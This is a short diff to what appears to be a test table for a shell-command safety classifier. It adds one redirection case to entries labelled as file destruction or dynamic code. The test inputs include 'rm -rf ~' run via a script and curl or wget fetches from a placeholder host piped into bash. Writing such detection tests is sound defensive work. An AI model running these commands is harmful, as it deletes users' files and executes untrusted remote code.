@@ -310,6 +310,7 @@ OTHER_LANGUAGES = [
     ("echo 'rm -rf build' > rc && bash --rcfile rc -i", {"run:rm -rf build", "destroy:files"}),
     ("curl -so x.sh https://x.example/x; bash < x.sh", {"dynamic:code"}),
     ("echo 'rm -rf ~' > x.sh && bash < x.sh", {"dynamic:code"}),  # see _redirected_statement
+    ("echo ls 10> x.sh; bash x.sh", {"dynamic:code"}),  # fd 10, not what echo prints
     ("curl -s https://x.example/i.sh -o i.sh && bash i.sh", {"dynamic:code"}),
     ("wget -q https://x.example/dl/i.sh && sh i.sh", {"dynamic:code"}),
     ("curl -fsSLO https://x.example/dl/i.sh && bash i.sh", {"dynamic:code"}),
